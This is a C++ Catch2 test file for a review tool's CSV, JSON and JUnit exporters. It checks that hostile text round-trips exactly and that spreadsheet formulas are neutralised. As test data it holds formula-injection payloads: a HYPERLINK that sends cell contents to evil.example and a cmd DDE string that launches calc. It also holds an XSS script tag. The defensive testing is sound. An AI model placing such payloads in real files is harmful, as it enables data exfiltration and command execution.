#include "ReportFixture.h"
#include "TestTools.h"
#include "export/CsvWriter.h"
#include "export/JUnitWriter.h"
#include "export/JsonWriter.h"
#include "scoring/StatusJson.h"

#include <QFile>
#include <QTemporaryDir>

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

using namespace preflight;
using namespace preflight::test;
using nlohmann::json;

// What a spreadsheet shows for a neutralised cell: the typed text behind a single quote when it
// would otherwise run as a formula.
QString neutralised(const QString &typed)
{
    static const QString FormulaStarts = QStringLiteral("=+-@\t\r");
    return !typed.isEmpty() && FormulaStarts.contains(typed.front()) ? u'\'' + typed : typed;
}

TEST_CASE("CSV has one RFC 4180 record per item, hostile text re-parsed exactly", "[export][csv][hostile]")
{
    const auto f = hostileReview();
    const bool raw = GENERATE(false, true);
    INFO((raw ? "--csv-raw" : "formulas neutralised"));
    const auto typed = [&](const QString &text) { return raw ? text : neutralised(text); };
    const QByteArray bytes = CsvWriter(raw ? CsvFormulas::Raw : CsvFormulas::Neutralised).write(f->input());
    CHECK_FALSE(bytes.startsWith("\xEF\xBB\xBF"));
    const auto records = parseCsv(QString::fromUtf8(bytes));
    REQUIRE(int(records.size()) == f->tmpl.itemCount() + 1);
    const QStringList header = records.front();
    CHECK(header.first() == QLatin1String("category_id"));
    for (const QStringList &record : records)
        REQUIRE(record.size() == header.size());

    const auto column = [&](const char *name) { return header.indexOf(QLatin1String(name)); };
    int matched = 0;
    for (std::size_t i = 1; i < records.size(); ++i) {
        const QStringList &r = records[i];
        const ItemState s = f->state.itemState(r[column("item_id")]);
        REQUIRE(f->tmpl.findItem(r[column("item_id")]) != nullptr);
        CHECK(r[column("item")] == f->tmpl.findItem(r[column("item_id")])->text);
        CHECK(r[column("status")] == itemStatusKey(s.status));
        CHECK(r[column("na_reason")] == typed(s.reason));
        CHECK(r[column("owner")] == typed(s.owner));
        CHECK(r[column("note")] == typed(s.note));
        CHECK(r[column("evidence")] == typed(s.evidence));
        matched += s.note == oneMegabyteNote() ? 1 : 0;
    }
    CHECK(matched == 1);
    for (const QString &hostile : hostileStrings())
        CHECK(std::count_if(records.begin(), records.end(),
                            [&](const QStringList &r) { return r.contains(typed(hostile)); })
              > 0);
}

TEST_CASE("CSV cells a spreadsheet would run as formulas get a quote, unless raw", "[export][csv]")
{
    const auto f = halfFinishedReview();
    const QStringList formulas {
        QStringLiteral("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"),
        QStringLiteral("+1+cmd|' /C calc'!A0"),
        QStringLiteral("-2+3"),
        QStringLiteral("-5"),
        QStringLiteral("@SUM(A1:A9)"),
        QStringLiteral("\t=1+1"),
        QStringLiteral("\r=1+1"),
    };
    const QStringList harmless { QStringLiteral("a=b"), QStringLiteral(" =1+1"), QStringLiteral("'=1+1"),
                                 QStringLiteral("1-2"), QString() };
    const QStringList typed = formulas + harmless;
    QStringList ids; // top-level items, whose states this test replaces
    for (const Category &category : f->tmpl.categories) {
        for (const Section &section : category.sections) {
            for (const Item &item : section.items)
                ids << item.id;
        }
    }
    REQUIRE(ids.size() >= typed.size());
    for (qsizetype i = 0; i < typed.size(); ++i) {
        ItemState s = f->state.itemState(ids[i]);
        s.itemId = ids[i];
        s.status = ItemStatus::NotApplicable;
        s.reason = typed[i];
        s.owner = typed[(i + 1) % typed.size()];
        s.note = typed[(i + 2) % typed.size()];
        s.evidence = typed[(i + 3) % typed.size()];
        s.changedBy = typed[(i + 4) % typed.size()];
        f->state.items[ids[i]] = s;
    }
    f->reassess();

    const QString safe = QString::fromUtf8(CsvWriter().write(f->input()));
    const QString exact = QString::fromUtf8(CsvWriter(CsvFormulas::Raw).write(f->input()));
    CHECK(QString::fromUtf8(makeTextReportWriter(ReportFormat::Csv)->write(f->input())) == safe); // the default

    // On the wire: the quote goes inside the field, and the field is quoted even without a comma.
    CHECK(safe.contains(QStringLiteral(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",")));
    CHECK(safe.contains(QStringLiteral(",\"'-5\",")));
    CHECK(safe.contains(QStringLiteral(",\"'@SUM(A1:A9)\",")));
    CHECK(safe.contains(QStringLiteral(",\"'\t=1+1\",")));
    CHECK(safe.contains(QStringLiteral(",\"'\r=1+1\",")));
    CHECK(exact.contains(QStringLiteral(",-5,")));
    CHECK(exact.contains(QStringLiteral(",@SUM(A1:A9),")));

    const auto safeRecords = parseCsv(safe);
    const auto exactRecords = parseCsv(exact);
    REQUIRE(safeRecords.size() == exactRecords.size());
    const QStringList header = safeRecords.front();
    CHECK(exactRecords.front() == header);
    int formulaCells = 0;
    for (std::size_t row = 1; row < safeRecords.size(); ++row) {
        REQUIRE(safeRecords[row].size() == header.size());
        for (qsizetype col = 0; col < header.size(); ++col) {
            const QString &cell = exactRecords[row][col];
            INFO(header[col].toStdString() << " of row " << row << ": " << cell.toStdString());
            if (formulas.contains(cell)) {
                ++formulaCells;
                CHECK(safeRecords[row][col] == u'\'' + cell);
            } else {
                CHECK(safeRecords[row][col] == cell); // ids, keys, times and harmless text untouched
            }
        }
    }
    CHECK(formulaCells == 5 * formulas.size());
}

TEST_CASE("JSON report is the status document plus checklist, notes and report facts", "[export][json][hostile]")
{
    const auto f = hostileReview();
    const json document = json::parse(JsonWriter().write(f->input()).toStdString());
    const json status = statusJson(f->tmpl, f->state, f->assessment, f->reviewDate);
    for (const auto &[key, value] : status.items()) {
        INFO(key);
        CHECK(document.at(key) == value);
    }
    CHECK(document["report"]["schema"] == "preflight.report/1");
    CHECK(document["report"]["audit_head"] == f->auditHead.toStdString());
    CHECK(document["report"]["generated_at"] == "2026-11-25T14:30:00Z");
    CHECK(document["report"]["generated_by"] == "dana.reviewer");
    CHECK(document["notes"] == f->state.project.notes.toStdString());
    CHECK(document["project"]["name"] == f->state.project.name.toStdString());

    const json &checklist = document["checklist"];
    REQUIRE(int(checklist.size()) == f->tmpl.itemCount());
    int hostileFound = 0;
    for (const json &entry : checklist) {
        const QString id = QString::fromStdString(entry["id"].get<std::string>());
        const ItemState s = f->state.itemState(id);
        CHECK(entry["status"] == itemStatusKey(s.status).toStdString());
        CHECK(entry["note"] == (s.note.isEmpty() ? json(nullptr) : json(s.note.toStdString())));
        CHECK(entry["reason"] == (s.reason.isEmpty() ? json(nullptr) : json(s.reason.toStdString())));
        hostileFound += hostileStrings().contains(s.owner) && entry["owner"] == s.owner.toStdString() ? 1 : 0;
    }
    CHECK(hostileFound == hostileStrings().size());
    CHECK(document["risks"]["items"][0]["title"] == "<script>alert(1)</script>");
    CHECK(document["manual_summary"].size() >= 1);
}

TEST_CASE("JSON report validates against its schema, and the schema rejects a broken one", "[export][json]")
{
    const auto validate = [](const json &document, bool expectValid) {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("report.json"));
        QFile file(path);
        REQUIRE(file.open(QIODevice::WriteOnly));
        file.write(QByteArray::fromStdString(document.dump()));
        file.close();
        QStringList args { QStringLiteral(PREFLIGHT_SOURCE_DIR "/tests/core/export/validate_report.py"),
                           QStringLiteral(PREFLIGHT_SOURCE_DIR "/src/core/export/report.schema.json"), path };
        if (!expectValid)
            args << QStringLiteral("--invalid");
        // Debian's python3 named explicitly: one earlier on PATH may lack python3-jsonschema.
        const ToolResult result = runTool(QStringLiteral("/usr/bin/python3"), args);
        INFO(result.out.toStdString() << result.err.toStdString());
        CHECK(result.exitCode == 0);
    };
    const auto f = hostileReview();
    json document = json::parse(JsonWriter().write(f->input()).toStdString());
    validate(document, true);
    json broken = document;
    broken["checklist"][0]["status"] = "finished";
    broken.erase("notes");
    validate(broken, false);
}

TEST_CASE("JUnit XML: a test case per item, critical open items fail, N/A skipped", "[export][junit][hostile]")
{
    const auto f = hostileReview();
    QString error;
    const XmlNode root = parseXml(JUnitWriter().write(f->input()), &error);
    INFO(error.toStdString());
    REQUIRE(error.isEmpty());
    REQUIRE(root.children.size() == 1);
    const XmlNode &suites = root.children.front();
    CHECK(suites.name == QLatin1String("testsuites"));
    CHECK(suites.attributes.value(QStringLiteral("name"))
          == QStringLiteral("Readiness review: ") + f->state.project.name);

    int cases = 0, failures = 0, skipped = 0, naSkipped = 0, criticalOpen = 0, na = 0, done = 0;
    QStringList names;
    for (const XmlNode &suite : suites.children) {
        REQUIRE(suite.name == QLatin1String("testsuite"));
        for (const XmlNode &testcase : suite.children) {
            if (testcase.name != QLatin1String("testcase"))
                continue;
            ++cases;
            names += testcase.attributes.value(QStringLiteral("name"));
            for (const XmlNode &child : testcase.children) {
                failures += child.name == QLatin1String("failure") ? 1 : 0;
                skipped += child.name == QLatin1String("skipped") ? 1 : 0;
                naSkipped += child.name == QLatin1String("skipped")
                        && child.attributes.value(QStringLiteral("message")).startsWith(QStringLiteral("N/A: "))
                    ? 1
                    : 0;
            }
        }
    }
    const ReportModel model(f->input());
    for (const ChecklistRow &row : model.rows()) {
        criticalOpen += row.state.status == ItemStatus::Open && row.category->severity == Severity::Critical;
        na += row.state.status == ItemStatus::NotApplicable;
        done += row.state.status == ItemStatus::Done;
    }
    CHECK(cases == f->tmpl.itemCount());
    CHECK(names == allItemTexts(f->tmpl));
    CHECK(failures == criticalOpen);
    CHECK(naSkipped == na);
    CHECK(skipped == f->tmpl.itemCount() - done - criticalOpen);
    CHECK(suites.attributes.value(QStringLiteral("failures")).toInt() == failures);
    CHECK(suites.attributes.value(QStringLiteral("tests")).toInt() == cases);

    // Reasons and notes come back exactly as typed.
    QString allText;
    visit(root, [&](const XmlNode &node) {
        allText += node.text;
        for (const QString &value : node.attributes)
            allText += value + u'\n';
    });
    for (const QString &typed : hostileStrings()) {
        INFO(typed.toStdString());
        CHECK(allText.contains(typed));
    }
}
